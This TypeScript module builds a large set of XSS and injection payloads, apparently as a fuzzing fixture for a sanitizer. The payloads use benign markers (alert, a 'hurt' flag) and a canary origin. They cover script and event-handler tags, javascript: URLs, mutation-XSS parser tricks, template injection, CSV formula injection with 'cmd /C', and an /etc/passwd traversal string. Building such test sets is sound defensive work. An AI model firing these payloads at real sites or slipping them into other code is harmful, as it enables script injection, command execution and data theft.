/**
 * Texts that would do something if they were taken for anything but text. Each tries to set the global `hurt`, to open a
 * dialog, or to fetch from the canary, and has a number by which it is known.
 */

type Vector = (code: string, canary: string) => string;

const SCRIPTS: Vector[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<ScRiPt >${code}</sCrIpT >`,
  (code) => `<script/x>${code}</script/x>`,
  (code) => `<script\u000C>${code}</script\t\n>`,
  (_, canary) => `<script src=${canary}></script>`,
  (_, canary) => `<script type=module>import "${canary}"</script>`,
  (code) => `<scr<script>ipt>${code}</scr</script>ipt>`,
  (code) => `</script><script>${code}</script>`,
  (code) => `<!--<script>--><script>${code}</script>`,
  (code) => `<![CDATA[<script>]]>${code}<![CDATA[</script>]]>`,
  (code) => `<noscript><script>${code}</script></noscript>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><script href="data:,${code}"/></svg>`,
];

const HANDLERS: Vector[] = [
  (code) => `<img src=x onerror=${code}>`,
  (code) => `<img src=x OnErRoR='${code}'/>`,
  (code) => `<img/src="x"/onerror="${code}">`,
  (code) => `<img src=x onerror=${code.replace("=", "&#61;")}>`,
  (code) => `<IMG """><img src=x onerror="${code}">`,
  (code) => `<svg onload=${code}>`,
  (code) => `<svg/onload=${code}//`,
  (code) => `<svg\u000Conload\u000C=${code}>`,
  (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  (code) => `<svg><image href=x onerror=${code} />`,
  (code) => `<svg><set attributeName=onmouseover to=${code}>`,
  (code) => `<svg><a xlink:href="javascript:${code}"><text y=20>x</text></a></svg>`,
  (code) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${code}'/></svg>#x"/>`,
  (code) => `<svg><foreignObject><iframe srcdoc="<script>${code}</script>"></iframe></foreignObject></svg>`,
  (code) => `<math href="javascript:${code}">x</math>`,
  (code) => `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${code}">x</maction></math>`,
  (code) => `<body onload=${code}>`,
  (code) => `<body onpageshow=${code}>`,
  (code) => `<input autofocus onfocus=${code}>`,
  (code) => `<select autofocus onfocus=${code}><option>x`,
  (code) => `<textarea autofocus onfocus=${code}>`,
  (code) => `<details open ontoggle=${code}><summary>x`,
  (code) => `<video><source onerror=${code}>`,
  (code) => `<video poster=x onloadstart=${code} src=x>`,
  (code) => `<audio src=x onerror=${code}>`,
  (code) => `<marquee onstart=${code}>x</marquee>`,
  (code) => `<div style="animation-name:x" onanimationstart=${code}>x</div>`,
  (code) => `<div onpointerover=${code} style="position:fixed;inset:0">x</div>`,
  (code) => `<x contenteditable onfocus=${code} autofocus tabindex=1>x</x>`,
  (code) => `<button popovertarget=p>x</button><div popover id=p onbeforetoggle=${code}>x`,
  (code) => `<dialog open oncancel=${code} onclose=${code}>x</dialog>`,
];

const PLACES: Vector[] = [
  (code) => `<iframe src="javascript:${code}"></iframe>`,
  (code) => `<iframe srcdoc="&lt;script&gt;parent.${code}&lt;/script&gt;"></iframe>`,
  (code) => `<iframe onload=${code}></iframe>`,
  (code) => `<object data="javascript:${code}"></object>`,
  (code) => `<object data="data:text/html,<script>${code}</script>"></object>`,
  (code) => `<embed src="javascript:${code}">`,
  (_, canary) => `<embed src=${canary}>`,
  (code) => `<a href="javascript:${code}" autofocus>x</a>`,
  (code) => `<a href=" jav&#x09;ascript:${code}">x</a>`,
  (code) => `<a href="javascript&colon;${code}">x</a>`,
  (code) => `<a href="data:text/html,<script>${code}</script>">x</a>`,
  (code) => `<form action="javascript:${code}"><input type=submit autofocus></form>`,
  (code) => `<form><button formaction="javascript:${code}">x</button></form>`,
  (code) => `<isindex action="javascript:${code}" type=image>`,
  (_, canary) => `<meta http-equiv=refresh content="0;url=${canary}">`,
  (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (_, canary) => `<link rel=stylesheet href=${canary}>`,
  (_, canary) => `<link rel=prefetch href=${canary}><link rel=preconnect href=${canary}>`,
  (_, canary) => `<base href=${canary}>`,
  (_, canary) => `<img src=${canary} srcset="${canary} 2x">`,
  (_, canary) => `<table background=${canary}><tr><td background=${canary}>x`,
  (_, canary) => `<style>@import "${canary}"; * { background: url(${canary}) }</style>`,
  (_, canary) => `<p style="background:url('${canary}');list-style-image:url(${canary})">x</p>`,
  (code) => `<div style="width:expression(${code})">x</div>`,
  (code) => `<template shadowrootmode=open><img src=x onerror=${code}></template>`,
  (code) => `<div><template shadowrootmode=open><script>${code}</script></template></div>`,
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}`,
  (code) => `java\tscript:${code}`,
  (code) => `javascript://example.com/%0a${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `vbscript:${code}`,
  (_, canary) => canary.replace("http:", ""),
];

const MUTATIONS: Vector[] = [
  (code) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
  (code) => `<svg></p><style><a id="</style><img src=1 onerror=${code}>">`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
  (code) => `<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${code}>">`,
  (code) => `<svg><style><img src=x onerror=${code}></style></svg>`,
  (code) => `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${code}></style>`,
  (code) => `<xmp><p title="</xmp><svg/onload=${code}>">`,
  (code) => `<listing>&lt;img src=x onerror=${code}&gt;</listing>`,
  (code) => `<table><td><p><svg><desc><img src=x onerror=${code}>`,
  (code) => `<b><i></b><img src=x onerror=${code}></i>`,
  (code) => `<div id="<!--"><img src=x onerror=${code}>`,
  (code) => `<form onclick=${code}><input name=attributes><input id=removeAttribute name=getAttributeNames autofocus>`,
  (code) => `<img name=body><img name=querySelectorAll><form id=documentElement><img src=x onerror=${code}>`,
];

const OTHERS: Vector[] = [
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `{{_openBlock.constructor('${code}')()}}`,
  (code) => `\${${code}}#{${code}}<%= ${code} %>[[${code}]]`,
  (code) => `"};${code};//`,
  (code) => `';${code};'`,
  (code) => `\\";${code};//`,
  (code) => `\\u003cimg src=x onerror=${code}\\u003e`,
  (code) => `x\u2028${code}\u2029`,
  (code) => `]]><svg onload=${code}>`,
  (code) => `--><svg onload=${code}>`,
  (code) => `" onpointerover="${code}" x="`,
  (code) => `' autofocus onfocus='${code}`,
  (code) => `\` onload=${code} \``,
  (_, canary) => `}</style><style>*{background:url(${canary})}`,
  (code) => `[x](javascript:${code})`,
  (code) => `![x](x"onerror="${code})`,
  (code) => `<javascript:${code}>`,
  (code) => `[x]: javascript:${code}\n[x]`,
  (code) => `&lt;img src=x onerror=${code}&gt;`,
  (code) => `&amp;lt;img src=x onerror=${code}&amp;gt;`,
  (code) => `&#60;svg onload=${code}&#62;`,
  (code) => `%3Cimg%20src=x%20onerror=${code}%3E`,
  (code) => `\uFF1Cimg src=x onerror=${code}\uFF1E`,
  (code) => `\u202E<img src=x onerror=${code}>\u202C`,
  (code) => `\uFEFF<svg onload=${code}>`,
  (code) => `<\u200Bimg src=x onerror=${code}>`,
  (code) => `<img src=x onerror\u00A0=${code}>`,
  (code) => `+ADw-script+AD4-${code}+ADw-/script+AD4-`,
  (code) => `\u00BCscript\u00BE${code}\u00BC/script\u00BE`,
  (_, canary) => `=HYPERLINK("${canary}","x")`,
  (_, canary) => `=IMPORTXML("${canary}","//a")`,
  (code) => `@SUM(1+1)*cmd|' /C ${code}'!A0`,
  (code) => `-2+3+cmd|' /C ${code}'!A0`,
  (code) => `../../../../etc/passwd\u2215<svg onload=${code}>.html`,
  (code) => `__proto__[x]=<img src=x onerror=${code}>`,
];

/** What would have to be left first. */
const WAYS_OUT = ["", '">', "'>", "</title>", "</textarea></xmp></style>", "--></template>"];

const CODES: ((number: number) => string)[] = [
  (number) => `hurt=${number}`,
  (number) => `alert(${number})`,
  (number) => `window.hurt=${number}`,
];

export const VECTORS = [...SCRIPTS, ...HANDLERS, ...PLACES, ...MUTATIONS, ...OTHERS];

/** So many different ones, every vector among them. `canary` is an origin that nobody may ask anything. */
export function payloads(count: number, canary: string): string[] {
  return Array.from({ length: count }, (_, number) => {
    const round = Math.floor(number / VECTORS.length);
    // Later rounds leave their vectors' places in different ways.
    const out = WAYS_OUT[round === 0 ? 0 : 1 + ((number + round) % (WAYS_OUT.length - 1))]!;
    const code = CODES[(number + round) % CODES.length]!(number);
    return out + VECTORS[number % VECTORS.length]!(code, `${canary}/${number}`);
  });
}

export const escaped = (text: string) =>
  text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll('"', "&quot;");
